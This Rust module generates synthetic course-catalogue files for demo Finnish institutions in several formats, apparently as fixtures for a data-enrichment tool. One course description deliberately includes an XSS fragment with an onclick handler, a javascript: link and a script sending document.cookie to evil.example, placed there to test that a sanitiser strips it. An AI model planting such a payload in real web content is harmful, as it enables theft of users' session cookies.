//! Demo course catalogues for the embedded default (`data/catalogues/`): one file per demo
//! institution, in the formats institutions supply (our CSV, our YAML and JSON, OOAPI v5 JSON),
//! with versions over the years, some courses missing and a little HTML, one piece of it
//! hostile. Deterministic: no random numbers, every choice follows from the course code.
//!
//! The course codes are those of [`crate::catalogue()`], so the catalogues join the synthetic
//! VIRTA attainments; the cases each file shows are listed in `data/catalogues/README.md`.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use crate::catalogue::{
    CATALOGUE_VARIANTS, Field, GENERAL, INSTITUTIONS, Institution, NameStyle, Sector, Topic,
    variant_names,
};
use crate::{Error, Result};

/// One generated catalogue file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CatalogueFile {
    /// File name inside the catalogue folder, e.g. `01901-helsinki.csv`.
    pub name: String,
    /// The whole file.
    pub contents: String,
}

/// Writes every demo catalogue into `dir` (created if missing); other files are left alone.
/// Returns the paths written.
pub fn write_catalogue_files(dir: &Path) -> Result<Vec<PathBuf>> {
    std::fs::create_dir_all(dir).map_err(|source| Error::CreateDir {
        path: dir.to_owned(),
        source,
    })?;
    let mut written = Vec::new();
    for file in catalogue_files() {
        let path = dir.join(&file.name);
        std::fs::write(&path, file.contents.as_bytes()).map_err(|source| Error::Write {
            path: path.clone(),
            source,
        })?;
        written.push(path);
    }
    Ok(written)
}

/// The course that carries a `<script>` (and a `javascript:` link) in its newest description,
/// for the sanitiser to remove: (institution, code).
pub const HOSTILE_HTML_COURSE: (&str, &str) = ("01901", "TKT10002");

/// How an institution's catalogue is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    Csv,
    Yaml,
    Json,
    Ooapi,
}

/// Which file each demo institution supplies.
struct Plan {
    code: &'static str,
    slug: &'static str,
    form: Form,
    /// First day the catalogue describes; older attainments find no version.
    first_day: &'static str,
    /// Descriptions as simple HTML.
    html: bool,
}

const PLANS: &[Plan] = &[
    plan("01901", "helsinki", Form::Csv, true),
    plan("10122", "tampere", Form::Csv, false),
    plan("10076", "aalto", Form::Csv, false),
    plan("10088", "uef", Form::Csv, false),
    plan("01906", "jyvaskyla", Form::Csv, false),
    plan("10089", "turku", Form::Csv, false),
    // LUT's catalogue history begins in 2015, so its 1990s attainments stay undescribed.
    Plan {
        first_day: "2015-08-01",
        ..plan("01914", "lut", Form::Csv, false)
    },
    plan("10056", "haaga-helia", Form::Csv, false),
    plan("02470", "lamk", Form::Yaml, false),
    plan("02504", "jamk", Form::Ooapi, false),
    plan("02472", "seamk", Form::Json, false),
    plan("10065", "metropolia", Form::Csv, false),
    plan("02536", "centria", Form::Csv, false),
];

const fn plan(code: &'static str, slug: &'static str, form: Form, html: bool) -> Plan {
    Plan {
        code,
        slug,
        form,
        first_day: "1995-08-01",
        html,
    }
}

/// Every demo catalogue file, in a fixed order.
pub fn catalogue_files() -> Vec<CatalogueFile> {
    PLANS
        .iter()
        .filter_map(|plan| {
            let inst = INSTITUTIONS.iter().find(|i| i.code == plan.code)?;
            let all = courses(inst);
            let courses: Vec<Version> = all
                .iter()
                .filter(|c| !is_missing(c))
                .flat_map(|c| versions(c, plan))
                .collect();
            let (ext, contents) = match plan.form {
                Form::Csv => ("csv", write_csv(inst, &courses)),
                Form::Yaml => ("yaml", write_yaml(inst, &courses)),
                Form::Json => ("json", write_json(&courses)),
                Form::Ooapi => ("json", write_ooapi(inst, &courses)),
            };
            let suffix = if plan.form == Form::Ooapi {
                "-ooapi"
            } else {
                ""
            };
            Some(CatalogueFile {
                name: format!("{}-{}{suffix}.{ext}", plan.code, plan.slug),
                contents,
            })
        })
        .collect()
}

/// One catalogue course: a topic of a field in one variant ("II", "III") at an institution.
struct Course {
    inst: &'static Institution,
    field: Field,
    topic: usize,
    variant: usize,
    info: &'static Topic,
    code: String,
    /// fi, sv, en.
    names: [String; 3],
}

/// The institution's courses in the order of [`crate::catalogue()`], open-university (`AY`)
/// codes left out: the demo catalogues do not list them (a key normalisation that strips `AY`
/// finds them under the degree course).
fn courses(inst: &'static Institution) -> Vec<Course> {
    let mut fields: Vec<Field> = Vec::new();
    for p in inst.programmes {
        for f in std::iter::once(p.field).chain(p.minor) {
            if !fields.contains(&f) {
                fields.push(f);
            }
        }
    }
    let mut out = Vec::new();
    for f in fields {
        for variant in 0..CATALOGUE_VARIANTS {
            for (topic, info) in f.topics().iter().enumerate() {
                out.push(Course {
                    inst,
                    field: f,
                    topic,
                    variant,
                    info,
                    code: inst.course_code(f, topic, variant),
                    names: variant_names(&info.names, variant),
                });
            }
        }
    }
    for (topic, info) in GENERAL.iter().enumerate() {
        out.push(Course {
            inst,
            field: Field::General,
            topic,
            variant: 0,
            info,
            code: inst.course_code(Field::General, topic, 0),
            names: variant_names(&info.names, 0),
        });
    }
    out
}

/// FNV-1a: a stable hash of the course code, so choices do not move when courses are added.
fn hash(code: &str) -> u64 {
    code.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// About one course in seven is not in its institution's catalogue (coverage below 100 %),
/// and only Helsinki lists its "III" courses.
fn is_missing(c: &Course) -> bool {
    let kept = (c.inst.code, c.code.as_str()) == HOSTILE_HTML_COURSE;
    !kept && (hash(&c.code).is_multiple_of(7) || (c.variant >= 2 && c.inst.code != "01901"))
}

/// One version of a course as a catalogue row.
struct Version<'c> {
    course: &'c Course,
    from: String,
    to: Option<String>,
    /// 0: the original text, 1: the 2019 reform, 2: the 2023 update.
    era: usize,
    html: bool,
}

/// The versions of a course. Most changed in 2019, many also in 2023; a few have a gap of two
/// years with no version, and a few were discontinued in 2021.
fn versions<'c>(c: &'c Course, plan: &Plan) -> Vec<Version<'c>> {
    let h = hash(&c.code);
    let forced = (c.inst.code, c.code.as_str()) == HOSTILE_HTML_COURSE;
    let windows: Vec<(&str, Option<&str>, usize)> = if forced || h % 10 < 3 {
        vec![
            ("1995-08-01", Some("2019-07-31"), 0),
            ("2019-08-01", Some("2023-07-31"), 1),
            ("2023-08-01", None, 2),
        ]
    } else if h % 29 == 4 {
        vec![
            ("1995-08-01", Some("2008-07-31"), 0),
            ("2010-08-01", None, 1),
        ]
    } else if h % 20 < 13 {
        vec![("1995-08-01", None, 0)]
    } else {
        vec![
            ("1995-08-01", Some("2019-07-31"), 0),
            ("2019-08-01", None, 1),
        ]
    };
    let discontinued = !forced && h % 13 == 6;
    const LAST_DAY: &str = "2021-07-31";
    let windows: Vec<(&str, Option<&str>, usize)> = if discontinued {
        let kept: Vec<_> = windows
            .into_iter()
            .filter(|(from, ..)| *from <= LAST_DAY)
            .collect();
        let n = kept.len();
        kept.into_iter()
            .enumerate()
            .map(|(i, (from, to, era))| {
                let to = if i + 1 == n {
                    Some(to.map_or(LAST_DAY, |t| t.min(LAST_DAY)))
                } else {
                    to
                };
                (from, to, era)
            })
            .collect()
    } else {
        windows
    };
    let mut out = Vec::new();
    for (from, to, era) in &windows {
        // Clip to the first day the institution's catalogue describes.
        if to.is_some_and(|t| t < plan.first_day) {
            continue;
        }
        let from = if *from < plan.first_day {
            plan.first_day
        } else {
            from
        };
        out.push(Version {
            course: c,
            from: from.to_owned(),
            to: to.map(str::to_owned),
            era: *era,
            html: plan.html,
        });
    }
    out
}

/// The languages an institution writes its catalogue in.
fn languages(inst: &Institution) -> &'static [&'static str] {
    match inst.names {
        NameStyle::FiSvEn => &["fi", "sv", "en"],
        NameStyle::FiEn | NameStyle::NoLang => &["fi", "en"],
        NameStyle::FiOnly => &["fi"],
    }
}

fn lang_index(lang: &str) -> usize {
    match lang {
        "fi" => 0,
        "sv" => 1,
        _ => 2,
    }
}

/// Picks one text of a [`Texts`].
type TextOf = fn(&Texts) -> &String;

/// The texts of one version in one language.
struct Texts {
    title: String,
    description: String,
    content: String,
    outcomes: Vec<String>,
    prerequisites: String,
    assessment: String,
}

fn texts(v: &Version<'_>, lang: &str) -> Texts {
    let c = v.course;
    let name = &c.names[lang_index(lang)];
    let basic = &c.info.names[lang_index(lang)];
    // Only the title in Swedish, except at Helsinki: as in many real catalogues.
    if lang == "sv" && c.inst.code != "01901" {
        return Texts {
            title: name.clone(),
            description: String::new(),
            content: String::new(),
            outcomes: Vec::new(),
            prerequisites: String::new(),
            assessment: String::new(),
        };
    }
    let sentences: [&str; 3] = match lang {
        "fi" => [
            "Alan keskeiset käsitteet ja menetelmät.",
            "Viikkoharjoitukset ja ryhmätyö (2019).",
            "Myös tekoälytyökalujen vastuullinen käyttö (2023).",
        ],
        "sv" => [
            "Ämnets centrala begrepp och metoder.",
            "Veckoövningar och grupparbete (2019).",
            "Även ansvarsfull användning av AI-verktyg (2023).",
        ],
        _ => [
            "The central concepts and methods of the field.",
            "Weekly exercises and group work (2019).",
            "Also the responsible use of AI tools (2023).",
        ],
    };
    let paragraphs = &sentences[..=v.era.min(2)];
    let description = if v.html {
        let mut html: String = paragraphs.iter().map(|p| format!("<p>{p}</p>")).collect();
        let hostile = (c.inst.code, c.code.as_str()) == HOSTILE_HTML_COURSE;
        if hostile && v.era == 2 && lang == "fi" {
            // A fragment pasted from a web editor: must not survive into descriptionHtml.
            html.push_str(
                "<p onclick=\"steal()\">Lisätietoja <a href=\"javascript:alert(1)\">kurssisivulla</a>.\
                 <script>document.location='https://evil.example/?c='+document.cookie</script></p>",
            );
        }
        if v.era >= 1 {
            html.push_str(match lang {
                "fi" => "<ul><li>Luennot</li><li><strong>Pakolliset</strong> harjoitukset</li></ul>",
                "sv" => "<ul><li>Föreläsningar</li><li><strong>Obligatoriska</strong> övningar</li></ul>",
                _ => "<ul><li>Lectures</li><li><em>Compulsory</em> exercises</li></ul>",
            });
        }
        html
    } else {
        paragraphs.join(" ")
    };
    let mut outcomes: Vec<String> = match lang {
        "fi" => vec![
            format!("Tuntee aiheen {name} käsitteet."),
            "Soveltaa perusmenetelmiä.".to_owned(),
            "Toimii ryhmässä.".to_owned(),
            "Arvioi tekoälytyökaluja.".to_owned(),
        ],
        "sv" => vec![
            format!("Känner begreppen i {name}."),
            "Tillämpar grundmetoderna.".to_owned(),
            "Arbetar i grupp.".to_owned(),
            "Bedömer AI-verktyg.".to_owned(),
        ],
        _ => vec![
            format!("Knows the concepts of {name}."),
            "Applies the basic methods.".to_owned(),
            "Works in a team.".to_owned(),
            "Assesses AI tools.".to_owned(),
        ],
    };
    outcomes.truncate(2 + v.era);
    let content = if v.era >= 1 {
        match lang {
            "fi" => "Luennot ja harjoitukset.",
            "sv" => "Föreläsningar och övningar.",
            _ => "Lectures and exercises.",
        }
        .to_owned()
    } else {
        String::new()
    };
    let prerequisites = if c.variant > 0 {
        match lang {
            "fi" => format!("{basic} tai vastaavat tiedot."),
            "sv" => format!("{basic} eller motsvarande."),
            _ => format!("{basic} or equivalent."),
        }
    } else {
        String::new()
    };
    let pass_fail = c.field == Field::General && matches!(c.topic, 3..=5);
    let scale = if c.inst.sector == Sector::Uas {
        "1–5"
    } else {
        "0–5"
    };
    let assessment = match (lang, pass_fail) {
        ("fi", true) => "Hyväksytty/hylätty.".to_owned(),
        ("sv", true) => "Godkänd/underkänd.".to_owned(),
        (_, true) => "Pass/fail.".to_owned(),
        ("fi", false) => format!("Tentti, {scale}."),
        ("sv", false) => format!("Tentamen, {scale}."),
        (_, false) => format!("Examination, {scale}."),
    };
    Texts {
        title: name.clone(),
        description,
        content,
        outcomes,
        prerequisites,
        assessment,
    }
}

/// Languages of instruction: language courses in their language, the rest in Finnish, and
/// advanced university courses in English too.
fn instruction(c: &Course) -> Vec<&'static str> {
    match (c.field, c.topic) {
        (Field::General, 0 | 1) => vec!["sv"],
        (Field::General, 2) => vec!["en"],
        _ if c.inst.sector == Sector::University && c.variant > 0 => vec!["fi", "en"],
        _ => vec!["fi"],
    }
}

/// EQF level (the Finnish NQF uses the same numbers for higher education): 7 for master-level
/// studies, 6 for the rest.
fn level(c: &Course) -> u8 {
    let master = c.inst.sector == Sector::University
        && (c.variant > 0 || (c.field == Field::General && matches!(c.topic, 7 | 10 | 12)));
    if master { 7 } else { 6 }
}

/// ISCED-F 2013 narrow or detailed field; none for general studies other than languages.
fn isced(c: &Course) -> Option<&'static str> {
    match c.field {
        Field::Computing => Some("0613"),
        Field::Mathematics => Some("0541"),
        Field::Business => Some("0413"),
        Field::Health => Some("0913"),
        Field::General if c.topic <= 2 => Some("0231"),
        Field::General => None,
    }
}

fn url(v: &Version<'_>) -> String {
    let slug = PLANS
        .iter()
        .find(|p| p.code == v.course.inst.code)
        .map_or("demo", |p| p.slug);
    format!("https://{slug}.example/{}", v.course.code)
}

fn csv_cell(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_owned()
    }
}

fn write_csv(inst: &Institution, versions: &[Version<'_>]) -> String {
    let langs = languages(inst);
    let mut header: Vec<String> = ["institution", "course_code", "valid_from", "valid_to"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    for field in [
        "title",
        "description",
        "content",
        "learning_outcomes",
        "prerequisites",
        "assessment",
    ] {
        header.extend(langs.iter().map(|l| format!("{field}_{l}")));
    }
    header.extend(
        [
            "languages",
            "eqf_level",
            "nqf_level",
            "isced_f",
            "ects",
            "url",
        ]
        .iter()
        .map(|s| (*s).to_owned()),
    );
    let mut out = header.join(",");
    out.push('\n');
    for v in versions {
        let c = v.course;
        let t: Vec<Texts> = langs.iter().map(|l| texts(v, l)).collect();
        let mut row: Vec<String> = vec![
            inst.code.to_owned(),
            c.code.clone(),
            v.from.clone(),
            v.to.clone().unwrap_or_default(),
        ];
        row.extend(t.iter().map(|t| t.title.clone()));
        row.extend(t.iter().map(|t| t.description.clone()));
        row.extend(t.iter().map(|t| t.content.clone()));
        row.extend(t.iter().map(|t| {
            t.outcomes
                .iter()
                .map(|o| format!("- {o}"))
                .collect::<Vec<_>>()
                .join("\n")
        }));
        row.extend(t.iter().map(|t| t.prerequisites.clone()));
        row.extend(t.iter().map(|t| t.assessment.clone()));
        let level = level(c).to_string();
        row.extend([
            instruction(c).join(","),
            level.clone(),
            level,
            isced(c).unwrap_or_default().to_owned(),
            c.info.credits.to_string(),
            url(v),
        ]);
        let cells: Vec<String> = row.iter().map(|s| csv_cell(s)).collect();
        out.push_str(&cells.join(","));
        out.push('\n');
    }
    out
}

/// A double-quoted string, valid in both JSON and YAML.
fn quoted(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => {
                let _ = write!(out, "\\u{:04x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn write_yaml(inst: &Institution, versions: &[Version<'_>]) -> String {
    let langs = languages(inst);
    let mut out = format!(
        "# Synthetic course catalogue of institution {}, written by `rikastin-synth \
         --catalogues-out`.\n# Do not edit by hand: see data/catalogues/README.md.\ncourses:\n",
        inst.code
    );
    for v in versions {
        let c = v.course;
        let t: Vec<(&str, Texts)> = langs.iter().map(|l| (*l, texts(v, l))).collect();
        let _ = writeln!(out, "  - institution: {}", quoted(inst.code));
        let _ = writeln!(out, "    course_code: {}", quoted(&c.code));
        let _ = writeln!(out, "    valid_from: {}", v.from);
        if let Some(to) = &v.to {
            let _ = writeln!(out, "    valid_to: {to}");
        }
        let text_maps: [(&str, TextOf); 5] = [
            ("title", |t| &t.title),
            ("description", |t| &t.description),
            ("content", |t| &t.content),
            ("prerequisites", |t| &t.prerequisites),
            ("assessment", |t| &t.assessment),
        ];
        for (key, get) in text_maps {
            if t.iter().all(|(_, x)| get(x).is_empty()) {
                continue;
            }
            let _ = writeln!(out, "    {key}:");
            for (lang, x) in &t {
                if !get(x).is_empty() {
                    let _ = writeln!(out, "      {lang}: {}", quoted(get(x)));
                }
            }
        }
        let _ = writeln!(out, "    learning_outcomes:");
        for (lang, x) in t.iter().filter(|(_, x)| !x.outcomes.is_empty()) {
            let _ = writeln!(out, "      {lang}:");
            for o in &x.outcomes {
                let _ = writeln!(out, "        - {}", quoted(o));
            }
        }
        let _ = writeln!(out, "    languages: [{}]", instruction(c).join(", "));
        let _ = writeln!(out, "    eqf_level: {}", level(c));
        let _ = writeln!(out, "    nqf_level: {}", level(c));
        if let Some(isced) = isced(c) {
            let _ = writeln!(out, "    isced_f: {}", quoted(isced));
        }
        let _ = writeln!(out, "    ects: {}", c.info.credits);
        let _ = writeln!(out, "    url: {}", quoted(&url(v)));
    }
    out
}

/// Writes `key: value` lines of a JSON object at `indent`, commas between.
fn json_object(out: &mut String, indent: usize, fields: &[(String, String)]) {
    let pad = " ".repeat(indent);
    out.push_str("{\n");
    for (i, (k, v)) in fields.iter().enumerate() {
        let comma = if i + 1 < fields.len() { "," } else { "" };
        let _ = writeln!(out, "{pad}  {}: {v}{comma}", quoted(k));
    }
    out.push_str(&pad);
    out.push('}');
}

fn json_map<'a>(pairs: impl Iterator<Item = (&'a str, &'a str)>) -> String {
    let items: Vec<String> = pairs
        .filter(|(_, v)| !v.is_empty())
        .map(|(k, v)| format!("{}: {}", quoted(k), quoted(v)))
        .collect();
    format!("{{{}}}", items.join(", "))
}

fn json_list<S: AsRef<str>>(items: &[S]) -> String {
    let items: Vec<String> = items.iter().map(|s| quoted(s.as_ref())).collect();
    format!("[{}]", items.join(", "))
}

fn write_json(versions: &[Version<'_>]) -> String {
    let mut out = String::from("{\n  \"courses\": [\n");
    for (i, v) in versions.iter().enumerate() {
        let c = v.course;
        let langs = languages(c.inst);
        let t: Vec<(&str, Texts)> = langs.iter().map(|l| (*l, texts(v, l))).collect();
        let map =
            |get: fn(&Texts) -> &String| json_map(t.iter().map(|(l, x)| (*l, get(x).as_str())));
        let mut fields = vec![
            ("institution".to_owned(), quoted(c.inst.code)),
            ("course_code".to_owned(), quoted(&c.code)),
            ("valid_from".to_owned(), quoted(&v.from)),
        ];
        if let Some(to) = &v.to {
            fields.push(("valid_to".to_owned(), quoted(to)));
        }
        fields.push(("title".to_owned(), map(|x| &x.title)));
        fields.push(("description".to_owned(), map(|x| &x.description)));
        if t.iter().any(|(_, x)| !x.content.is_empty()) {
            fields.push(("content".to_owned(), map(|x| &x.content)));
        }
        let outcomes: Vec<String> = t
            .iter()
            .filter(|(_, x)| !x.outcomes.is_empty())
            .map(|(l, x)| format!("{}: {}", quoted(l), json_list(&x.outcomes)))
            .collect();
        fields.push((
            "learning_outcomes".to_owned(),
            format!("{{{}}}", outcomes.join(", ")),
        ));
        if t.iter().any(|(_, x)| !x.prerequisites.is_empty()) {
            fields.push(("prerequisites".to_owned(), map(|x| &x.prerequisites)));
        }
        fields.push(("assessment".to_owned(), map(|x| &x.assessment)));
        fields.push(("languages".to_owned(), json_list(&instruction(c))));
        fields.push(("eqf_level".to_owned(), level(c).to_string()));
        fields.push(("nqf_level".to_owned(), level(c).to_string()));
        if let Some(isced) = isced(c) {
            fields.push(("isced_f".to_owned(), quoted(isced)));
        }
        fields.push(("ects".to_owned(), c.info.credits.to_string()));
        fields.push(("url".to_owned(), quoted(&url(v))));
        out.push_str("    ");
        json_object(&mut out, 4, &fields);
        out.push_str(if i + 1 < versions.len() { ",\n" } else { "\n" });
    }
    out.push_str("  ]\n}\n");
    out
}

/// OOAPI v5 language tags for our codes.
fn ooapi_tag(lang: &str) -> &'static str {
    match lang {
        "fi" => "fi-FI",
        "sv" => "sv-FI",
        _ => "en-GB",
    }
}

fn typed(t: &[(&str, Texts)], get: TextOf) -> String {
    let items: Vec<String> = t
        .iter()
        .filter(|(_, x)| !get(x).is_empty())
        .map(|(l, x)| {
            format!(
                "{{\"language\": {}, \"value\": {}}}",
                quoted(ooapi_tag(l)),
                quoted(get(x))
            )
        })
        .collect();
    format!("[{}]", items.join(", "))
}

/// An OOAPI page of courses; each version is its own course with `validFrom`/`validTo`, and the
/// institution's VIRTA code rides in the page's `ext`, since OOAPI has no place for it.
fn write_ooapi(inst: &Institution, versions: &[Version<'_>]) -> String {
    let mut out = format!(
        "{{\n  \"pageSize\": {},\n  \"pageNumber\": 1,\n  \"hasPreviousPage\": false,\n  \
         \"hasNextPage\": false,\n  \"ext\": {{\"institution\": {}}},\n  \"items\": [\n",
        versions.len(),
        quoted(inst.code)
    );
    for (i, v) in versions.iter().enumerate() {
        let c = v.course;
        let langs = languages(inst);
        let t: Vec<(&str, Texts)> = langs.iter().map(|l| (*l, texts(v, l))).collect();
        let h = hash(&format!("{}{}", c.code, v.from));
        let course_id = format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            h >> 32,
            (h >> 16) & 0xffff,
            h & 0xfff,
            (h >> 12) & 0xfff,
            h & 0xffff_ffff_ffff
        );
        let outcomes: Vec<String> = (0..t.first().map_or(0, |(_, x)| x.outcomes.len()))
            .map(|n| {
                let per_lang: Vec<String> = t
                    .iter()
                    .filter_map(|(l, x)| {
                        x.outcomes.get(n).map(|o| {
                            format!(
                                "{{\"language\": {}, \"value\": {}}}",
                                quoted(ooapi_tag(l)),
                                quoted(o)
                            )
                        })
                    })
                    .collect();
                format!("[{}]", per_lang.join(", "))
            })
            .collect();
        let mut fields = vec![
            ("courseId".to_owned(), quoted(&course_id)),
            (
                "primaryCode".to_owned(),
                format!(
                    "{{\"codeType\": \"identifier\", \"code\": {}}}",
                    quoted(&c.code)
                ),
            ),
            ("abbreviation".to_owned(), quoted(&c.code)),
            ("name".to_owned(), typed(&t, |x| &x.title)),
            ("description".to_owned(), typed(&t, |x| &x.description)),
            (
                "teachingLanguage".to_owned(),
                quoted(instruction(c).first().map_or("fi", |l| ooapi_tag(l))),
            ),
            (
                "learningOutcomes".to_owned(),
                format!("[{}]", outcomes.join(", ")),
            ),
        ];
        if t.iter().any(|(_, x)| !x.prerequisites.is_empty()) {
            fields.push(("requirements".to_owned(), typed(&t, |x| &x.prerequisites)));
        }
        fields.push(("assessment".to_owned(), typed(&t, |x| &x.assessment)));
        fields.push(("ects".to_owned(), c.info.credits.to_string()));
        fields.push(("level".to_owned(), quoted("bachelor")));
        if let Some(isced) = isced(c) {
            fields.push(("fieldsOfStudy".to_owned(), quoted(isced)));
        }
        fields.push(("link".to_owned(), quoted(&url(v))));
        fields.push(("validFrom".to_owned(), quoted(&v.from)));
        if let Some(to) = &v.to {
            fields.push(("validTo".to_owned(), quoted(to)));
        }
        out.push_str("    ");
        json_object(&mut out, 4, &fields);
        out.push_str(if i + 1 < versions.len() { ",\n" } else { "\n" });
    }
    out.push_str("  ]\n}\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_demo_courses_are_the_generators_courses() {
        let ours: Vec<(&str, String)> = INSTITUTIONS
            .iter()
            .flat_map(|i| courses(i).into_iter().map(|c| (c.inst.code, c.code)))
            .collect();
        let all: Vec<(&str, String)> = crate::catalogue()
            .into_iter()
            .filter(|c| !c.code.starts_with("AY"))
            .map(|c| (c.myontaja, c.code))
            .collect();
        assert_eq!(ours, all);
    }

    #[test]
    fn every_institution_has_a_file_and_some_courses_are_missing() {
        let files = catalogue_files();
        assert_eq!(files.len(), INSTITUTIONS.len());
        let total: usize = INSTITUTIONS.iter().map(|i| courses(i).len()).sum();
        let missing: usize = INSTITUTIONS
            .iter()
            .map(|i| courses(i).iter().filter(|c| is_missing(c)).count())
            .sum();
        assert!(
            missing > total / 10 && missing < total / 2,
            "{missing} of {total}"
        );
    }

    #[test]
    fn the_hostile_course_carries_a_script_only_in_its_newest_finnish_description() {
        let helsinki = catalogue_files()
            .into_iter()
            .find(|f| f.name == "01901-helsinki.csv")
            .expect("helsinki");
        assert_eq!(helsinki.contents.matches("<script>").count(), 1);
        let row = helsinki
            .contents
            .lines()
            .find(|l| l.contains("<script>"))
            .expect("row");
        assert!(row.starts_with("01901,TKT10002,2023-08-01,"), "{row}");
    }
}
